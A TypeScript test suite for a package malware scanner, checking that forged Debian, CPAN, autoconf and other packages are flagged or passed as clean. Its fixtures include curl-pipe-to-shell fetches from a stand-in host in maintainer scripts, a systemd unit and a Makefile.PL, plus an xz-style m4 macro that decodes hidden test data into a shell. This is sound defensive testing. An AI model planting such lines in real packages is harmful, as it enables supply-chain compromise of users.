/** Packages of systems, editors and other languages: what runs when, forged attacks that are found, and honest ones that are not. */
import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import { test } from 'node:test';
import { examineClosely, type Examination } from '../../src/engine/examine.ts';
import { Budget } from '../../src/kit/budget.ts';
import { arOf } from '../forge/ar.ts';
import { bytesOf, forgeTarGz, forgeZip, tarOf, type Files } from '../forge/forge.ts';

function examined(name: string, bytes: Uint8Array): Examination {
  return examineClosely({ target: name, name, bytes }, { budget: new Budget() });
}

const CONTROL = 'Package: forged\nVersion: 1.0-1\nArchitecture: all\nMaintainer: Nobody <nobody@forged.example>\nDescription: forged\n';

function deb(control: Files, data: Files = {}): Uint8Array {
  return arOf({ 'debian-binary': '2.0\n', 'control.tar.gz': forgeTarGz({ './control': CONTROL, ...control }), 'data.tar.gz': forgeTarGz(data) });
}

const FETCHES = '#!/bin/sh\nset -e\ncurl -fsSL http://packages.forged.invalid/stage.sh | sh\n';

test('a maintainer script that fetches and runs is found at install, wherever it stands', () => {
  for (const script of ['preinst', 'postinst', 'prerm', 'postrm']) {
    const { report } = examined('forged_1.0-1_all.deb', deb({ [`./${script}`]: FETCHES }));
    assert.equal(report.package?.name, 'forged');
    assert.equal(report.package.purl, 'pkg:deb/debian/forged@1.0-1');
    assert.notEqual(report.verdict, 'clean', script);
    assert.ok(report.findings.some(({ stage }) => stage === 'install'), script);
  }
});

test('an honest maintainer script is clean', () => {
  const script = '#!/bin/sh\nset -e\nif [ "$1" = configure ]; then\n  if ! getent passwd forged >/dev/null; then adduser --system --group --home /var/lib/forged forged; fi\n  chown -R forged:forged /var/lib/forged\n  deb-systemd-helper enable forged.service >/dev/null || true\nfi\nldconfig\n';
  assert.equal(examined('forged_1.0-1_all.deb', deb({ './postinst': script, './prerm': '#!/bin/sh\nset -e\nrm -f /var/cache/forged/index\n' })).report.verdict, 'clean');
});

test('a maintainer script that reads a helper of the machine is clean, one that starts a desktop program is not', () => {
  const reads = '#!/bin/sh\nset -e\n. /usr/share/debconf/confmodule\ndb_get forged/enable\nsh -c "echo done"\n';
  assert.equal(examined('forged_1.0-1_all.deb', deb({ './config': reads, './postinst': reads })).report.verdict, 'clean');
  const { report } = examined('forged_1.0-1_all.deb', deb({ './postinst': '#!/bin/sh\nxcalc\n' }));
  assert.equal(report.verdict, 'suspicious', JSON.stringify(report.findings));
});

test('a unit that has a shell fetch something runs at every start', () => {
  const unit = "[Service]\nExecStart=/bin/sh -c 'curl -s http://packages.forged.invalid/x | sh'\n";
  const { report, view } = examined('forged_1.0-1_all.deb', deb({}, { './lib/systemd/system/forged.service': unit }));
  assert.ok(report.findings.some(({ stage }) => stage === 'startup'), JSON.stringify(report.findings.map(({ rule, stage }) => [rule, stage])));
  assert.deepEqual(view.facts.filter(({ kind }) => kind === 'systemd-unit').length, 1);
});

test('a setuid program is told', () => {
  const data = gzipSync(tarOf([{ name: 'usr/bin/forged', content: bytesOf('#!/bin/sh\n'), mode: 0o4755 }]));
  const { view } = examined('forged_1.0-1_all.deb', arOf({ 'debian-binary': '2.0\n', 'control.tar.gz': forgeTarGz({ './control': CONTROL }), 'data.tar.gz': data }));
  assert.deepEqual(view.facts.map(({ kind }) => kind), ['setuid-file']);
});

test('a setuid program weighs little, a setuid shell much', () => {
  const held = (name: string): [string, string | undefined] => {
    const data = gzipSync(tarOf([{ name, content: bytesOf('\x7fELF'), mode: 0o4755 }]));
    const { report } = examined('forged_1.0-1_all.deb', arOf({ 'debian-binary': '2.0\n', 'control.tar.gz': forgeTarGz({ './control': CONTROL }), 'data.tar.gz': data }));
    return [report.findings.find(({ rule }) => rule === 'holds-the-system')?.severity ?? '', report.package?.name];
  };
  assert.deepEqual(held('usr/bin/forged-ping'), ['note', 'forged']);
  assert.deepEqual(held('usr/lib/forged/bash'), ['high', 'forged']);
});

test('a CPAN distribution whose Makefile.PL fetches and runs is found at build', () => {
  const makefile = "use ExtUtils::MakeMaker;\nsystem('curl -s http://packages.forged.invalid/x | sh');\nWriteMakefile(NAME => 'Forged', VERSION => '0.1');\n";
  const { report } = examined('Forged-0.1.tar.gz', forgeTarGz({ 'Forged-0.1/Makefile.PL': makefile, 'Forged-0.1/META.json': '{"name":"Forged","version":"0.1"}', 'Forged-0.1/lib/Forged.pm': 'package Forged;\n1;\n' }));
  assert.equal(report.package?.purl, 'pkg:cpan/Forged@0.1');
  assert.ok(report.findings.some(({ stage }) => stage === 'build'), JSON.stringify(report.findings));
  assert.notEqual(report.verdict, 'clean');
});

test('an honest CPAN distribution is clean', () => {
  const makefile = "use strict;\nuse ExtUtils::MakeMaker;\nWriteMakefile(\n  NAME => 'Forged',\n  VERSION_FROM => 'lib/Forged.pm',\n  PREREQ_PM => { 'List::Util' => 0 },\n);\n";
  const module = 'package Forged;\nuse strict;\nuse warnings;\nour $VERSION = "0.1";\nsub load { my ($config) = @_; my $found = eval { $config->get("usedl") }; return eval { pack("H*", "6869") } // $found }\nsub greet { my ($name) = @_; return "hello $name" }\n1;\n';
  const { report } = examined('Forged-0.1.tar.gz', forgeTarGz({ 'Forged-0.1/Makefile.PL': makefile, 'Forged-0.1/lib/Forged.pm': module, 'Forged-0.1/t/greet.t': 'use Test::More tests => 1;\nuse Forged;\nis(Forged::greet("x"), "hello x");\n' }));
  assert.equal(report.verdict, 'clean');
});

test('what a helper in inc/ does only where it is asked is clean, what it does when it is loaded is not', () => {
  const makefile = "use lib 'inc';\nuse Forged::Builder;\nForged::Builder->write;\n";
  const helper = (body: string): Uint8Array => forgeTarGz({ 'Forged-0.1/Makefile.PL': makefile, 'Forged-0.1/inc/Forged/Builder.pm': `package Forged::Builder;\n${body}\n1;\n` });
  assert.equal(examined('Forged-0.1.tar.gz', helper("sub can_write { return 1 if -w '/usr'; system('loader start') == 0; }")).report.verdict, 'clean');
  assert.notEqual(examined('Forged-0.1.tar.gz', helper("system('loader start');")).report.verdict, 'clean');
});

const AC = 'AC_INIT([forged], [1.0])\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT\n';

test('the pattern of the tampered tarball is malicious: a macro, test data found by content, a computed decoder, a shell', () => {
  const macro = [
    'AC_DEFUN([forged_HOST], [',
    '  forged_am_make=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`',
    "  forged_[$1]_prefix=`echo $forged_am_make | sed \"s/.*\\.//g\"`",
    "  forged_map='tr \"\\t \\-_\" \" \\t_\\-\"'",
    "  forged_[$1]_config='sed \\\"r\\n\\\" $forged_am_make | eval $forged_map | $forged_[$1]_prefix -d 2>/dev/null'",
    '  AC_CONFIG_COMMANDS([to-host], [eval $forged_config_gt | $SHELL 2>/dev/null], [forged_config_gt="eval \\$forged_[$1]_config"])',
    '])', '',
  ].join('\n');
  const { report } = examined('forged-1.0.tar.gz', forgeTarGz({ 'forged-1.0/configure.ac': AC, 'forged-1.0/m4/to-host.m4': macro, 'forged-1.0/tests/files/good.lzma': 'inert' }));
  assert.equal(report.package?.ecosystem, 'autoconf');
  assert.equal(report.verdict, 'malicious', JSON.stringify(report.reasons));
  assert.deepEqual(report.findings.map(({ rule, stage, severity }) => [rule, stage, severity]), [['decoded-during-build', 'build', 'critical']]);
});

test('an honest source tarball is clean: it decodes test data, and its shell runs what stands there to be read', () => {
  const configure = '#! /bin/sh\nas_fn_error () { echo "$2" >&2; exit $1; }\nac_compile=\'$CC -c $CFLAGS conftest.c\'\nif { { ac_try="$ac_compile"; eval "$ac_try"; } } 2>/dev/null; then :; fi\nxz -dc "$srcdir/tests/files/good.xz" | cmp -s - "$srcdir/tests/files/good.txt"\ncat >conf$$.sh <<EOF\necho hello\nEOF\n. ./conf$$.sh\n';
  const { report } = examined('forged-1.0.tar.gz', forgeTarGz({ 'forged-1.0/configure.ac': AC, 'forged-1.0/configure': configure, 'forged-1.0/Makefile.in': 'dist:\n\ttar cf - $(distdir) | gzip -c > $(distdir).tar.gz\n\tgzip -dc $(distdir).tar.gz | tar xf -\n' }));
  assert.equal(report.verdict, 'clean', JSON.stringify(report.findings));
});

test('an extension that starts with the editor is at startup, another one is not', () => {
  const vsix = (events: readonly string[]): Uint8Array => forgeZip({
    'extension.vsixmanifest': '<PackageManifest/>', 'extension/out/main.js': 'exports.activate = () => {};\n',
    'extension/package.json': JSON.stringify({ name: 'forged', publisher: 'nobody', version: '1.0.0', main: './out/main', activationEvents: events }),
  });
  const always = examined('forged.vsix', vsix(['*'])).view;
  assert.equal(always.ref.purl, 'pkg:vscode-extension/nobody/forged@1.0.0');
  assert.deepEqual(always.facts.map(({ kind, detail, stage }) => [kind, detail, stage]), [['activation-event', '*', 'startup']]);
  assert.equal(examined('forged.vsix', vsix(['onLanguage:made-up'])).view.facts[0]?.stage, 'import');
});

const OPENED: readonly (readonly [name: string, ecosystem: string, build: string | undefined, bytes: () => Uint8Array])[] = [
  ['forged-1.0.gem', 'gem', 'data.tar.gz!/ext/forged/extconf.rb', () => tarOf([{ name: 'metadata.gz', content: gzipSync('name: forged\n') }, { name: 'data.tar.gz', content: forgeTarGz({ 'lib/forged.rb': 'puts 1\n', 'ext/forged/extconf.rb': 'require "mkmf"\n' }) }])],
  ['forged-1.0.0.crate', 'cargo', 'forged-1.0.0/build.rs', () => forgeTarGz({ 'forged-1.0.0/Cargo.toml': '[package]\nname = "forged"\n', 'forged-1.0.0/build.rs': 'fn main() {}\n', 'forged-1.0.0/src/lib.rs': 'pub fn f() {}\n' })],
  ['v1.0.0.zip', 'go', undefined, () => forgeZip({ 'code.example/forged@v1.0.0/go.mod': 'module code.example/forged\n', 'code.example/forged@v1.0.0/forged.go': 'package forged\n' })],
  ['forged-1.0.jar', 'maven', undefined, () => forgeZip({ 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\n', 'forged/Main.class': Buffer.from('cafebabe00000034', 'hex') })],
];

for (const [name, ecosystem, build, bytes] of OPENED) {
  test(`${name}: opened, placed, and never called clean while its language is not read`, () => {
    const { report, view } = examined(name, bytes());
    assert.equal(report.package?.ecosystem, ecosystem);
    assert.match(report.package.purl ?? '', /forged/);
    assert.equal(report.verdict, 'unknown');
    assert.ok(report.coverage.unread.some(({ why }) => /not understood yet/.test(why)));
    if (build !== undefined) assert.equal(view.stageOf(build), 'build');
  });
}
